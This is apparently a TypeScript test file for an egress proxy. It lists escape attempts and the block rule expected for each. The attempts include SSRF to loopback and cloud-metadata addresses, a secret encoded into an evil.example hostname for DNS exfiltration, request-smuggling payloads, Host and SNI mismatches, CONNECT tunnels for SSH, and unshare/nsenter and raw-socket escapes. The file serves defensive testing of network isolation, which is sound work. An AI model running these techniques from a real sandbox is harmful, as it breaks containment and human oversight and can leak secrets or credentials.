import type { EscapeAttempt } from './attempt.ts';

const crlf = String.raw`\r\n`;
const lines = (...all: string[]): string => [...all, '', ''].join(crlf);
const connect = (authority: string) => lines(`CONNECT ${authority} HTTP/1.1`, `Host: ${authority}`);

const literals: [string, string][] = [
  ['127.0.0.1', 'http://127.0.0.1/'],
  ['2130706433', 'http://2130706433/'],
  ['0x7f000001', 'http://0x7f000001/'],
  ['0177.0.0.1', 'http://0177.0.0.1/'],
  ['127.1', 'http://127.1/'],
  ['169.254.169.254', 'http://169.254.169.254/latest/meta-data/'],
  ['[::1]', 'http://[::1]/'],
  ['[::ffff:127.0.0.1]', 'http://[::ffff:127.0.0.1]/'],
  ['1.1.1.1', 'https://1.1.1.1/'],
];

const privateNames = [
  'private.example',
  'rebind.example',
  'metadata.google.internal',
  'cgnat.example',
  'mapped.example',
  'nat64.example',
  'six.example',
  'unique-local.example',
  'multicast.example',
  'zero.example',
  'azure.example',
];

const gatewayPaths = ['/api/v1/members', '/v1/../api/v1/me', '/v1/%2e%2e/api/v1/me', '/v1//api', '/runner/v1/claim'];

/** What a program tries that knows of the proxy. `example.com` and the names above are listed; methods are the safe ones. */
export const throughTheProxy: EscapeAttempt[] = [
  ...literals.map(([host, url]) => ({
    name: `the address ${host}`,
    script: `via -x http://127.0.0.1:3128 --noproxy '' '${url}' || raw '${lines(`GET ${url.replace('https', 'http')} HTTP/1.1`, `Host: ${host}`, 'Connection: close')}'`,
    logged: { rule: 'address-literal' as const, host },
  })),
  ...privateNames.map((host) => ({
    name: `the name ${host}`,
    script: `via http://${host}/ || via https://${host}/`,
    logged: { rule: 'private-address' as const, host },
  })),
  ...['POST', 'PUT', 'PATCH', 'DELETE'].map((method) => ({
    name: `${method} inside TLS`,
    script: `via -X ${method} -d secret https://example.com/`,
    logged: { rule: 'method-not-allowed' as const, host: 'example.com' },
  })),
  ...gatewayPaths.map((path) => ({
    name: `the gateway’s ${path}`,
    script: `via --path-as-is https://gateway.reeve.example:8443${path}`,
    logged: { rule: 'gateway-path' as const, host: 'gateway.reeve.example' },
  })),
  {
    name: 'a domain that is not listed',
    script: 'via https://evil.example/',
    logged: { rule: 'domain-not-listed', host: 'evil.example' },
  },
  {
    name: 'the same without TLS',
    script: 'via http://plain.evil.example/',
    logged: { rule: 'domain-not-listed', host: 'plain.evil.example' },
  },
  {
    name: 'a secret in a host name, for its DNS server to read',
    script: 'via https://c2VjcmV0.evil.example/',
    logged: { rule: 'domain-not-listed', host: 'c2vjcmv0.evil.example' },
  },
  {
    name: 'a name that only begins like a listed one',
    script: 'via https://example.com.evil.example/',
    logged: { rule: 'domain-not-listed', host: 'example.com.evil.example' },
  },
  {
    name: 'the machine by its name',
    script: 'via http://localhost:80/ -x http://127.0.0.1:3128',
    logged: { rule: 'domain-not-listed', host: 'localhost' },
  },
  {
    name: 'a POST that calls itself GET',
    script: 'via -H "X-HTTP-Method-Override: POST" https://example.com/',
    logged: { rule: 'method-not-allowed', host: 'example.com' },
  },
  {
    name: 'another host in the Host header',
    script: 'via -H "Host: evil.example" https://example.com/',
    logged: { rule: 'name-mismatch', host: 'example.com' },
  },
  {
    name: 'another name in TLS',
    script: `inside '${lines('GET / HTTP/1.1', 'Host: example.com')}' -servername evil.example`,
    logged: { rule: 'name-mismatch', host: 'example.com' },
  },
  {
    name: 'no name in TLS',
    script: `inside '${lines('GET / HTTP/1.1', 'Host: example.com')}' -noservername`,
    logged: { rule: 'name-mismatch', host: 'example.com' },
  },
  {
    name: 'HTTP/2 alone',
    script: `inside '${lines('PRI * HTTP/2.0')}' -alpn h2`,
    logged: { rule: 'tls-failed', host: 'example.com' },
  },
  {
    name: 'SSH through a tunnel',
    script: `raw '${connect('example.com:22')}'`,
    logged: { rule: 'port-not-allowed', host: 'example.com' },
  },
  {
    name: 'SSH through the tunnel of HTTPS',
    script: `raw '${connect('example.com:443')}SSH-2.0-OpenSSH_9${crlf}'`,
    logged: { rule: 'bad-request', host: 'example.com' },
  },
  {
    name: 'a request before the tunnel’s answer',
    script: `raw '${connect('example.com:80')}${lines('GET / HTTP/1.1', 'Host: example.com')}'`,
    logged: { rule: 'bad-request', host: 'example.com' },
  },
  {
    name: 'an absolute address inside the tunnel',
    script: `inside '${lines('GET http://evil.example/ HTTP/1.1', 'Host: example.com')}'`,
    logged: { rule: 'bad-request', host: 'example.com' },
  },
  {
    name: 'a tunnel inside the tunnel',
    script: `inside '${connect('inner.evil.example:443')}'`,
    logged: { rule: 'bad-request', host: 'inner.evil.example' },
  },
  {
    name: 'two Host headers',
    script: `inside '${lines('GET / HTTP/1.1', 'Host: example.com', 'Host: evil.example')}'`,
    logged: { rule: 'bad-request', host: 'example.com' },
  },
  {
    name: 'a second request in the body, by length and chunks',
    script: `inside '${lines('GET / HTTP/1.1', 'Host: example.com', 'Content-Length: 4', 'Transfer-Encoding: chunked')}0${crlf}${crlf}POST /smuggled HTTP/1.1${crlf}${crlf}'`,
    logged: { rule: 'bad-request', host: 'example.com' },
  },
  {
    name: 'a second request in the body, by a hidden encoding',
    script: `inside '${lines('GET / HTTP/1.1', 'Host: example.com', 'Transfer-Encoding: chunked, identity')}0${crlf}${crlf}POST /smuggled HTTP/1.1${crlf}${crlf}'`,
    logged: { rule: 'bad-request', host: 'example.com' },
  },
  {
    name: 'a WebSocket',
    script: `inside '${lines('GET /ws HTTP/1.1', 'Host: example.com', 'Connection: Upgrade', 'Upgrade: websocket', 'Sec-WebSocket-Version: 13', 'Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==')}'`,
    logged: { rule: 'websocket-not-allowed', host: 'example.com' },
  },
  {
    name: 'a WebSocket behind a request that has no answer yet',
    script: `raw '${lines('GET http://first.evil.example/ HTTP/1.1', 'Host: first.evil.example')}${lines('GET http://pipelined.evil.example/ws HTTP/1.1', 'Host: pipelined.evil.example', 'Connection: Upgrade', 'Upgrade: websocket')}'`,
    logged: { rule: 'domain-not-listed', host: 'pipelined.evil.example' },
  },
  {
    name: 'a redirect to a host that is not listed',
    script: 'via -L https://example.com/control/redirect',
    logged: { rule: 'domain-not-listed', host: 'redirected.evil.example' },
  },
  {
    name: 'a server with a wrong certificate',
    script: 'via -k https://wrong-certificate.example/',
    logged: { rule: 'certificate-invalid', host: 'wrong-certificate.example' },
  },
  {
    name: 'FTP',
    script: 'via ftp://example.com/ -x http://127.0.0.1:3128',
    logged: { rule: 'bad-request' },
  },
  {
    name: 'SOCKS',
    script: 'via -x socks5h://127.0.0.1:3128 http://example.com/',
    logged: { rule: 'not-http' },
  },
  {
    name: 'a header without end',
    script: 'via -H "X: $(head -c 100000 /dev/zero | tr "\\\\0" a)" http://example.com/',
    logged: { rule: 'bad-request' },
  },
  {
    name: 'more connections than there may be',
    script:
      'for i in $(seq 300); do eval "exec $((i + 20))<>/dev/tcp/127.0.0.1/3128" || break; done; timeout 30 cat <&320 | grep -q " 503 " && exit 1; exit 0',
    logged: { rule: 'too-many-connections' },
  },
];

/** What a program tries that goes around the proxy. There is no other network, so nothing is there to log it. */
export const aroundTheProxy: EscapeAttempt[] = [
  { name: 'TCP to this machine', script: 'direct "$HOST_ADDRESS" "$HOST_PORT"' },
  { name: 'TCP to this machine’s loopback', script: 'direct 127.0.0.1 "$HOST_PORT"' },
  { name: 'TCP to this machine’s loopback by IPv6', script: 'direct ::1 "$HOST_PORT"' },
  { name: 'TCP to the internet', script: 'direct 1.1.1.1 443' },
  { name: 'TCP to the metadata server', script: 'direct 169.254.169.254 80' },
  {
    name: 'UDP',
    script:
      'perl -MSocket -e \'socket(my $s, AF_INET, SOCK_DGRAM, 0); send($s, "x", 0, sockaddr_in(53, inet_aton("8.8.8.8"))) or exit 1\'',
  },
  {
    name: 'multicast',
    script:
      'perl -MSocket -e \'socket(my $s, AF_INET, SOCK_DGRAM, 0); send($s, "x", 0, sockaddr_in(5353, inet_aton("224.0.0.251"))) or exit 1\'',
  },
  { name: 'DNS', script: 'getent hosts example.com' },
  { name: 'HTTP without the proxy', script: 'via --noproxy "*" http://example.com/' },
  { name: 'QUIC’s port', script: 'timeout 3 bash -c "echo x > /dev/udp/1.1.1.1/443"' },
  {
    name: 'a socket of this machine without a file',
    script:
      'perl -MSocket -e \'socket(my $s, AF_UNIX, SOCK_STREAM, 0); connect($s, pack_sockaddr_un("\\0" . $ENV{ABSTRACT})) or exit 1\'',
  },
  { name: 'raw IP', script: 'opens 2 3 1' },
  { name: 'packets', script: 'opens 17 3 768' },
  {
    name: 'raw IP in a network of its own',
    script: "unshare -Urn perl -e 'socket(my $s, 2, 3, 255) or exit 1'",
    onlyIn: 'docker',
  },
  {
    name: 'the firewall of a network of its own',
    script: "unshare -Urn perl -e 'socket(my $s, 16, 3, 12) or exit 1'",
    onlyIn: 'docker',
  },
  { name: 'the machine below this one, by vsock', script: 'opens 40 1 0', onlyIn: 'docker' },
  { name: 'the network of another process', script: 'nsenter -t "$HOST_PID" -n true' },
  { name: 'a network of its own with a way out', script: 'unshare -Urn bash -c "exec 9<>/dev/tcp/1.1.1.1/443"' },
];
